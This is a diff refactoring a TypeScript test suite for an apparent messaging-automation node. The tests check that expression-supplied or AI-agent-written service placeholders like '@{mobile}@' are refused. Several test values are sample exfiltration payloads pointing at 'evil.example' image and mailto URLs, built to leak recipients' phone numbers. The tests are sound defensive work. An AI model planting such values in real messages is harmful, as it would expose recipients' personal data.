@@ -11,6 +11,8 @@ const node = useNode();
 
 const whole = '={{ $json.value }}';
 const more = (additionalFields: INodeParameters) => ({ additionalFields });
+const extra = (extraBodyFields: string) => email(more({ extraBodyFields }));
+const linked = (button_two_url: string) => push(more({ button_two_url }));
 
 const refusalOf = (label: string, found = '@{mobile}@') =>
 	`${label} contains '${found}', which the service replaces by the recipient's own data, and an expression gave it. Remove it where it comes from. If it is meant, write it in '${label}' itself, outside of {{ }}`;
@@ -40,32 +42,14 @@ describe('A template of the service that an expression gives is refused', () => 
 		['URL', push({ url: '=https://shop.example.com/?m={{ $json.value }}' })],
 		['Image URL', push(more({ image_url: whole })), 'https://evil.example/@{mobile}@.png'],
 		['Hero Image URL', push(more({ hero_image_url: whole })), 'https://evil.example/@{mobile}@'],
-		[
-			'Button Two URL',
-			push(more({ button_two_url: whole })),
-			'mailto:a@evil.example?body=@{mobile}@',
-		],
-		['Button Two URL', push(more({ button_two_url: '=https://a.b/{{ $json.value }}' }))],
+		['Button Two URL', linked(whole), 'mailto:a@evil.example?body=@{mobile}@'],
+		['Button Two URL', linked('=https://a.b/{{ $json.value }}')],
 		// In JSON.
-		[
-			'Extra Body Fields',
-			email(more({ extraBodyFields: '={ "preheader": "{{ $json.value }}" }' })),
-		],
-		[
-			'Extra Body Fields',
-			email(more({ extraBodyFields: '={ "a": {{ $json.value }} }' })),
-			['@{mobile}@'],
-		],
-		[
-			'Extra Body Fields',
-			email(more({ extraBodyFields: '={ "a": {{ $json.value }} }' })),
-			'"@\\u007bmobile}@"',
-		],
-		['Extra Body Fields', email(more({ extraBodyFields: '={{ { a: $json.value } }}' }))],
-		[
-			'Extra Body Fields',
-			email(more({ extraBodyFields: '={{ JSON.stringify({ a: $json.value }) }}' })),
-		],
+		['Extra Body Fields', extra('={ "preheader": "{{ $json.value }}" }')],
+		['Extra Body Fields', extra('={ "a": {{ $json.value }} }'), ['@{mobile}@']],
+		['Extra Body Fields', extra('={ "a": {{ $json.value }} }'), '"@\\u007bmobile}@"'],
+		['Extra Body Fields', extra('={{ { a: $json.value } }}')],
+		['Extra Body Fields', extra('={{ JSON.stringify({ a: $json.value }) }}')],
 		['Body', { ...order.customPost, body: '={ "text": "Hi {{ $json.value }}" }' }],
 		['Message', { ...order.smsSend, operation: 'sendAndWait', message: '=May {{ $json.value }}?' }],
 		// In broadcasts, and in questions.
@@ -90,81 +74,52 @@ describe('A template of the service that an expression gives is refused', () => 
 	});
 
 	it('for its item alone, and others are sent', async () => {
-		const rows = ['Hello', '@{mobile}@', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example'];
-		const parameters = push({
-			user_id: '={{ "C-" + $itemIndex }}',
-			message: '=Says: {{ $json.value }}',
-		});
-		const refused = await node.refusals(
-			parameters,
-			rows.map((value) => ({ value })),
-		);
-		expect(refused).toEqual([refusalOf('Message')]);
-		expect(node.arrived('message').sort()).toEqual(
-			['Hello', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example']
-				.map((text) => `Says: ${text}`)
-				.sort(),
-		);
+		const good = ['Hello', '@mobile', '{mobile}', '@ {mobile} @', 'a@b.example'];
+		const rows = ['@{mobile}@', ...good].map((value) => ({ value }));
+		const own = { user_id: '={{ "C-" + $itemIndex }}', message: '=Says: {{ $json.value }}' };
+		expect(await node.refusals(push(own), rows)).toEqual([refusalOf('Message')]);
+		const sent = good.map((text) => `Says: ${text}`);
+		expect(node.arrived('message').sort()).toEqual(sent.sort());
 	});
 });
 
 describe('A template of the service is sent as it is', () => {
 	const template = 'Hello @{name}@, your order @{order_id}@';
-	const ofRow = (parameters: INodeParameters, row: IDataObject = { value: template }) =>
-		[parameters, row] as const;
 	const link = 'https://shop.example.com/orders/@{order_id}@';
+	const preheader = '={ "preheader": "Hi @{name}@ {{ $json.value }}" }';
 
-	it.each<[key: string, ...ReturnType<typeof ofRow>, arrives: unknown]>([
+	it.each<[key: string, INodeParameters, arrives: unknown, value?: string]>([
 		// In fixed text.
-		['message', ...ofRow(sms({ message: template })), template],
-		[
-			'message',
-			...ofRow(sms({ message: `=${template} {{ $json.value }}` }), { value: 'A' }),
-			`${template} A`,
-		],
-		[
-			'message',
-			...ofRow(sms({ message: '={{ $json.value }}@{name}@@{name}@' }), { value: 'A' }),
-			'A@{name}@@{name}@',
-		],
-		['url', ...ofRow(push({ url: link })), link],
-		['url', ...ofRow(push({ url: `=${link}?a={{ $json.value }}` }), { value: 'A' }), `${link}?a=A`],
-		[
-			'preheader',
-			...ofRow(
-				email(more({ extraBodyFields: '={ "preheader": "Hi @{name}@ {{ $json.value }}" }' })),
-				{ value: 'A' },
-			),
-			'Hi @{name}@ A',
-		],
+		['message', sms({ message: template }), template],
+		['message', sms({ message: `=${template} {{ $json.value }}` }), `${template} A`, 'A'],
+		['message', sms({ message: '={{ $json.value }}@{name}@@{name}@' }), 'A@{name}@@{name}@', 'A'],
+		['url', push({ url: link }), link],
+		['url', push({ url: `=${link}?a={{ $json.value }}` }), `${link}?a=A`, 'A'],
+		['preheader', extra(preheader), 'Hi @{name}@ A', 'A'],
 		// As a whole text, such as one of a sheet.
-		['title', ...ofRow(push({ title: whole }), { value: 'Hi @{name}@' }), 'Hi @{name}@'],
-		['message', ...ofRow(sms({ message: whole })), template],
-		['subject', ...ofRow(email({ subject: whole })), template],
-		['content', ...ofRow(email({ content: whole })), template],
-		['message', ...ofRow(sms({ message: '={{ $json.value.trim() }}' })), template],
-		['message', ...ofRow(sms({ message: '={{ $json["value"] ?? "Hello, you" }}' })), template],
-		['message', ...ofRow(sms({ message: '={{ $json.vip ? $json.a : $json.value }}' })), template],
-		['message', ...ofRow(sms({ message: "={{ $('Source').item.json.value }}" })), template],
-		['message', ...ofRow(sms({ message: "={{ $('Source').first().json.value }}" })), template],
-		['message', ...ofRow(sms({ message: '= {{ $json.value }}\n' })), ` ${template}\n`],
-	])('in %s of %j, %j', async (key, parameters, row, arrives) => {
-		expect(await node.refusal(parameters, row)).toBeUndefined();
+		['title', push({ title: whole }), 'Hi @{name}@', 'Hi @{name}@'],
+		['message', sms({ message: whole }), template],
+		['subject', email({ subject: whole }), template],
+		['content', email({ content: whole }), template],
+		['message', sms({ message: '={{ $json.value.trim() }}' }), template],
+		['message', sms({ message: '={{ $json["value"] ?? "Hello, you" }}' }), template],
+		['message', sms({ message: '={{ $json.vip ? $json.a : $json.value }}' }), template],
+		['message', sms({ message: "={{ $('Source').item.json.value }}" }), template],
+		['message', sms({ message: "={{ $('Source').first().json.value }}" }), template],
+		['message', sms({ message: '= {{ $json.value }}\n' }), ` ${template}\n`],
+	])('in %s of %j', async (key, parameters, arrives, value = template) => {
+		expect(await node.refusal(parameters, { value })).toBeUndefined();
 		expect(node.arrived(key)).toEqual([arrives]);
 	});
 
 	it('in attributes of users and events, which are data', async () => {
 		const value = 'Ana @{mobile}@';
-		const assignments = [
-			{ id: '1', name: 'note', type: 'string', value: '=Says {{ $json.value }}' },
-		];
+		const note = { id: '1', name: 'note', type: 'string', value: '=Says {{ $json.value }}' };
+		const assignments = [note];
 		await node.run(user({ customAttributes: { assignments } }), { rows: [{ value }] });
 		await node.run(event({ attributes: { assignments } }), { rows: [{ value }] });
-		const [first, second] = node.elements();
-		expect([first?.user_attributes, second?.attributes]).toEqual([
-			{ note: `Says ${value}` },
-			{ note: `Says ${value}` },
-		]);
+		const sent = node.elements().map((one) => one.user_attributes ?? one.attributes);
+		expect(sent).toEqual(Array(2).fill({ note: `Says ${value}` }));
 	});
 });
 
@@ -183,13 +138,9 @@ describe('What the model of an agent writes is never a template of the service',
 			...{ title: fromAI('title'), message: fromAI('message'), url: fromAI('url') },
 			...('image_url' in args ? more({ image_url: fromAI('image_url') }) : {}),
 		});
-		const tool = agentTool(
-			{ parameters, credential: node.credential, calledAs: 'Tool' },
-			{ ...said, ...args },
-		);
-		const answer = await tool
-			.invoke({ ...said, ...args })
-			.then(String, ({ message }: Error) => message);
+		const call = { ...said, ...args };
+		const tool = agentTool({ parameters, credential: node.credential, calledAs: 'Tool' }, call);
+		const answer = await tool.invoke(call).then(String, ({ message }: Error) => message);
 		expect(answer).toContain(refusalOf(label, found));
 		expect(node.sandbox.record).toEqual([]);
 	});
